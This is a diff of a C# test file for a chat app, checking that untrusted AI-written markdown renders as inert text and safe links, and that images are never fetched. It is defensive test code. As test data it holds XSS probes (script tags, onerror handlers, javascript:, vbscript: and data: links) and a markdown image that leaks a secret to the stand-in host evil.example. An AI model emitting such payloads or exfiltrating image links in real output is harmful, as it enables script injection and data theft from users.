@@ -1,3 +1,4 @@
+using AngleSharp.Dom;
 using Bunit;
 using Edison.Core.Chat;
 using Edison.Tests.TestSupport;
@@ -5,57 +6,96 @@ using Edison.Web.Components.Chat;
 
 namespace Edison.Tests.Web.Components;
 
-/// <summary>Model output is untrusted: what it writes renders as inert text and safe links.</summary>
+/// <summary>Model output is untrusted: whatever it writes renders as inert text, safe links and nothing fetched.</summary>
 public sealed class HostileMarkdownTests : ChatPageContext
 {
-    [Theory]
-    [InlineData("<script>alert('x')</script>")]
-    [InlineData("Look: <img src=x onerror=alert(1)>")]
-    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
-    [InlineData("<a href=\"javascript:alert(1)\">click</a>")]
-    public void Raw_HTML_in_an_answer_is_shown_as_text_not_markup(string hostile)
-    {
-        var item = RenderAnswer(hostile);
+    private static readonly HashSet<string> InertElements =
+    [
+        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code", "strong",
+        "em", "del", "ins", "mark", "sub", "sup", "a", "table", "colgroup", "col", "thead", "tbody", "tr", "th", "td",
+        "div", "span", "button", "input",
+    ];
 
-        Assert.Empty(item.FindAll("script, img, iframe, [onerror], a[href^='javascript']"));
-        Assert.Contains(hostile.Split('<')[0], item.Find(".markdown").TextContent);
-        Assert.Contains("<", item.Find(".markdown").TextContent);
+    public static TheoryData<string> Vectors => new(HostileMarkdown.Vectors.Select(v => v.Name));
+
+    [Theory]
+    [MemberData(nameof(Vectors))]
+    public void A_hostile_answer_renders_inert(string vector)
+    {
+        var markdown = HostileMarkdown.Vectors.Single(v => v.Name == vector).Markdown;
+
+        var answer = RenderAnswer(markdown).Find(".markdown");
+
+        foreach (var element in answer.QuerySelectorAll("*"))
+        {
+            Assert.Contains(element.LocalName, InertElements);
+            foreach (var attribute in element.Attributes)
+            {
+                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{vector}: <{element.LocalName} {attribute.Name}>");
+                Assert.DoesNotContain(attribute.Name, new[] { "src", "srcset", "action", "formaction", "data", "poster", "background" });
+            }
+
+            if (element.GetAttribute("style") is { } style)
+            {
+                Assert.Matches("^(text-align|width): [a-z0-9%.]+;?$", style);
+            }
+
+            if (element.GetAttribute("href") is { } href)
+            {
+                Assert.Matches("^(https?://|mailto:|/|#fn)", new string(href.Where(c => c > ' ').ToArray()).ToLowerInvariant());
+            }
+        }
     }
 
     [Theory]
-    [InlineData("[click me](javascript:alert(1))")]
-    [InlineData("[click me](JaVaScRiPt:alert(1))")]
-    [InlineData("[click me](java\tscript:alert(1))")]
-    [InlineData("[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
-    [InlineData("[click me](vbscript:msgbox)")]
-    [InlineData("<javascript:alert(1)>")]
-    public void Dangerous_links_are_neutralised(string hostile)
+    [InlineData("![](http://evil.example/leak?q=secret)", "evil.example")]
+    [InlineData("![chart](https://cdn.example.org/chart.png)", "cdn.example.org")]
+    [InlineData("![x](//evil.example/b.png)", "evil.example")]
+    public void An_image_is_not_fetched_but_shown_as_a_link_naming_its_host(string markdown, string host)
     {
-        var item = RenderAnswer(hostile);
+        var answer = RenderAnswer(markdown).Find(".markdown");
 
-        foreach (var link in item.FindAll("a"))
-        {
-            var href = new string(link.GetAttribute("href")!.Where(c => c > ' ').ToArray());
-            Assert.DoesNotMatch("^(?i)(javascript|data|vbscript):", href);
-        }
+        Assert.Empty(answer.QuerySelectorAll("img, picture, source, svg"));
+        var link = answer.QuerySelector("a.image-link")!;
+        Assert.Contains(host, link.TextContent);
+        Assert.StartsWith("Image: ", link.TextContent);
+        Assert.Contains("noreferrer", link.GetAttribute("rel"));
+    }
+
+    [Fact]
+    public void A_link_to_a_dangerous_address_keeps_its_text_and_loses_the_link()
+    {
+        var answer = RenderAnswer("Read [the manual](javascript:alert(1)) first.").Find(".markdown");
+
+        Assert.Empty(answer.QuerySelectorAll("a"));
+        Assert.Equal("Read the manual first.", answer.TextContent.Trim());
     }
 
     [Fact]
     public void Ordinary_links_stay_and_open_safely()
     {
-        var item = RenderAnswer("See [the docs](https://example.org/docs) and [home](/c/1).");
+        var item = RenderAnswer("See [the docs](https://example.org/docs), [home](/c/1) and <mailto:me@example.org>.");
 
-        var links = item.FindAll("a");
-        Assert.Equal(["https://example.org/docs", "/c/1"], links.Select(a => a.GetAttribute("href")));
-        Assert.All(links, a => Assert.Contains("noopener", a.GetAttribute("rel")));
+        var links = item.FindAll(".markdown a");
+        Assert.Equal(["https://example.org/docs", "/c/1", "mailto:me@example.org"], links.Select(a => a.GetAttribute("href")));
+        Assert.All(links.Take(2), a => Assert.Contains("noopener", a.GetAttribute("rel")));
     }
 
     [Fact]
-    public void A_data_image_cannot_carry_a_payload()
+    public void What_people_write_in_chat_still_renders()
     {
-        var item = RenderAnswer("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)");
+        var answer = RenderAnswer(
+            "**bold** ~~gone~~ H~2~O\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\nA claim[^1] and https://example.org\n\n[^1]: The source.")
+            .Find(".markdown");
 
-        Assert.All(item.FindAll("img"), img => Assert.DoesNotContain("data:", img.GetAttribute("src")));
+        Assert.Equal("bold", answer.QuerySelector("strong")!.TextContent);
+        Assert.Equal("gone", answer.QuerySelector("del")!.TextContent);
+        Assert.Equal("2", answer.QuerySelector("sub")!.TextContent);
+        Assert.Equal("text-align: right", answer.QuerySelectorAll("td")[1].GetAttribute("style")!.TrimEnd(';'));
+        Assert.Equal(2, answer.QuerySelectorAll("input[type=checkbox][disabled]").Length);
+        Assert.Equal("#fn:1", answer.QuerySelector("a.footnote-ref")!.GetAttribute("href"));
+        Assert.Equal("fn:1", answer.QuerySelector(".footnotes li")!.Id);
+        Assert.Equal("https://example.org", answer.QuerySelectorAll("a").Last(a => a.ClassName != "footnote-back-ref").GetAttribute("href"));
     }
 
     [Fact]
@@ -64,6 +104,7 @@ public sealed class HostileMarkdownTests : ChatPageContext
         var item = RenderAnswer("```html\n<script>alert(1)</script>\n```");
 
         Assert.NotNull(item.Find(".code-block [data-testid=copy-code]"));
+        Assert.Equal("language-html", item.Find(".code-block pre code").ClassName);
         Assert.Equal("<script>alert(1)</script>", item.Find(".code-block pre code").TextContent.Trim());
         Assert.Empty(item.FindAll("script"));
     }
